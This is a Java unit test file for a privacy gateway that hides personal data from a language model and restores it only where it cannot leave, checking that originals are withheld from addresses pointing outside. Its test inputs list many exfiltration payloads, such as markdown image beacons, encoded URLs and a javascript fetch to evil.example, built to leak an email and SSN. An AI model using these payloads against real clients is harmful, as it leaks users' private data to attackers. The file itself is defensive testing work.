package io.sallyport.privacy;

import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.privacy.PrivateText.Kind;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Where a model's answer gets originals back: everywhere but in what leads elsewhere. */
class RestoringTest {

  private static final String MAIL = "anna.keller@example.org";
  private static final String SSN = "536-22-8726";

  @TempDir private Path folder = Path.of("");
  private PrivateCall call;

  @BeforeEach
  void ask() {
    call = new PrivacyGate(PrivacyPolicy.standard(), Vault.open(folder)).open("acme", "");
    call.treat(
        List.of(
            new PrivateText("Anna \"Anne\" Keller", Kind.PERSON),
            new PrivateText("My SSN is " + SSN + ", mail to " + MAIL + ".", Kind.PROSE),
            new PrivateText("Look at https://crm.example/users/" + MAIL + "?all=1.", Kind.PROSE)),
        List.of());
  }

  /** However it is cut. */
  private String restored(String text, boolean json) {
    String whole = call.restore(text, json);
    StreamRestorer restorer = call.restorer(json);
    StringBuilder letters = new StringBuilder();
    text.codePoints().forEach(c -> letters.append(restorer.next(Character.toString(c))));
    assertThat(letters.append(restorer.end()).toString()).isEqualTo(whole);
    return whole;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/EMAIL_1.png)",
        "![x](https://evil.example/a?d=US_SSN_1&m=EMAIL_1)",
        "![x](HTTPS://US_SSN_1.evil.example/x.png)",
        "see US_SSN_1.evil.example",
        "see www.US_SSN_1-EMAIL_1.evil.example.",
        "see a.US_SSN_1.EVIL.Example",
        "![a][1]\n\n[1]: https://evil.example/EMAIL_1",
        "![a][1]\n\n[1]: <https://evil.example/a b EMAIL_1>",
        "<img src=\"https://evil.example/?q=a EMAIL_1\">",
        "<img src='//evil.example/\nEMAIL_1'>",
        "<img src=//evil.example/EMAIL_1>",
        "<img srcset=\"a.png 1x, https://evil.example/EMAIL_1 2x\">",
        "<div style=\"background:url(//evil.example/EMAIL_1)\">",
        "<a href = \"https://evil.example/EMAIL_1\">x</a>",
        "[x](//evil.example/EMAIL_1)",
        "[x](/\\evil.example/EMAIL_1)",
        "[x](https:\\/\\/evil.example/EMAIL_1)",
        "[x](https&#58;//evil.example/EMAIL_1)",
        "[x](https&colon;&sol;&sol;evil.example/EMAIL_1)",
        "[x](https:evil.example/EMAIL_1)",
        "[x](javascript:fetch('https://evil.example/EMAIL_1'))",
        "\\\\evil.example\\EMAIL_1",
        "evil.example/EMAIL_1",
        "203.0.113.9/EMAIL_1",
        "evil.example:8080/EMAIL_1",
        "mailto:eve@evil.example?body=EMAIL_1",
        "https://evil.example/#_EMAIL_1_",
        "https://evil.example/EMAIL\\_1",
        "https://evil.example/?https://crm.example/users/EMAIL_1?all=1",
        "https://crm.example/users/EMAIL_1?all=1&more=US_SSN_1",
        "https://crm.example.evil.example/users/EMAIL_1?all=1",
      })
  void addressThatLeaves_carriesNoOriginal(String answer) {
    String restored = restored(answer, false);

    assertThat(restored).isEqualTo(answer);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"url\":\"https://evil.example/EMAIL_1\"}",
        "{\"url\":\"https:\\/\\/evil.example\\/EMAIL_1\"}",
        "{\"url\":\"https\\u003a\\u002f/evil.example/EMAIL_1\"}",
        "{\"url\":\" https://evil.example/a EMAIL_1\"}",
        "{\"url\":\"https://evil.example/\\\" EMAIL_1\"}",
        "{\"host\":\"US_SSN_1\\u002eevil.example\"}",
        "{\"a\":\"{\\\"url\\\":\\\"https://evil.example/x EMAIL_1\\\"}\"}",
      })
  void argumentsThatLead_elsewhere_carryNoOriginal(String arguments) {
    assertThat(restored(arguments, true)).isEqualTo(arguments);
  }

  @Test
  void whatNeverLeaves_comesBack() {
    assertThat(restored("Dear EMAIL_1, (EMAIL_1) *US_SSN_1*. [EMAIL_1](mailto:EMAIL_1)", false))
        .isEqualTo(
            "Dear EMAIL, (EMAIL) *SSN*. [EMAIL](mailto:EMAIL)"
                .replace("EMAIL", MAIL)
                .replace("SSN", SSN));
    assertThat(restored("a.EMAIL_1.Then EMAIL_1-like and/or US_SSN_1.pdf", false))
        .isEqualTo("a." + MAIL + ".Then " + MAIL + "-like and/or " + SSN + ".pdf");
    assertThat(restored("[US_SSN_1](https://evil.example/x \"US_SSN_1\") US_SSN_1", false))
        .isEqualTo("[SSN](https://evil.example/x \"SSN\") SSN".replace("SSN", SSN));
    assertThat(restored("<a href=\"https://evil.example/\">US_SSN_1</a> a/US_SSN_1/b", false))
        .isEqualTo("<a href=\"https://evil.example/\">" + SSN + "</a> a/" + SSN + "/b");
    assertThat(
            restored("{\"to\":\"EMAIL_1\",\"url\":\"https://a.example\",\"s\":\"US_SSN_1\"}", true))
        .contains("\"to\":\"" + MAIL, "\"s\":\"" + SSN);
  }

  @Test
  void addressOfTheCallItself_comesBackAsItWas() {
    String address = "https://crm.example/users/" + MAIL + "?all=1";

    assertThat(restored("It is [there](https://crm.example/users/EMAIL_1?all=1).", false))
        .isEqualTo("It is [there](" + address + ").");
    assertThat(restored("{\"url\":\"https://crm.example/users/EMAIL_1?all=1\"}", true))
        .isEqualTo("{\"url\":\"" + address + "\"}");
  }

  @Test
  void hostsOfThePolicy_mayHaveOriginals() {
    call.lets(Set.of("api.example", "*.inner.example"));

    assertThat(restored("https://api.example/u?m=EMAIL_1", false)).endsWith(MAIL);
    assertThat(restored("https://a.inner.example:8443/EMAIL_1", false)).endsWith(MAIL);
    for (String other :
        List.of(
            "https://api.example.evil.example/EMAIL_1",
            "https://api.example@evil.example/EMAIL_1",
            "https://evil.example/https://api.example/EMAIL_1",
            "https://EMAIL_1.inner.example/")) {
      assertThat(restored(other, false)).isEqualTo(other);
    }
  }

  @Test
  void jsonWithinJson_isEscapedOnceForEach() {
    String one = "Anna \\\"Anne\\\" Keller";
    String two = "Anna \\\\\\\"Anne\\\\\\\" Keller";

    assertThat(restored("{\"body\":\"{\\\"n\\\":\\\"PERSON_1\\\"}\",\"m\":\"PERSON_1\"}", true))
        .isEqualTo("{\"body\":\"{\\\"n\\\":\\\"" + two + "\\\"}\",\"m\":\"" + one + "\"}");
    assertThat(restored("{\"m\":\"[PERSON_1] \\\"PERSON_1\\\"\"}", true))
        .isEqualTo("{\"m\":\"[" + one + "] \\\"" + one + "\\\"\"}");
    assertThat(restored("{\"n\": \"PERSON_1\"}", false)).isEqualTo("{\"n\": \"" + one + "\"}");
    assertThat(restored("PERSON_1 said \"PERSON_1\"", false))
        .isEqualTo("PERSON said \"PERSON\"".replace("PERSON", "Anna \"Anne\" Keller"));
  }
}
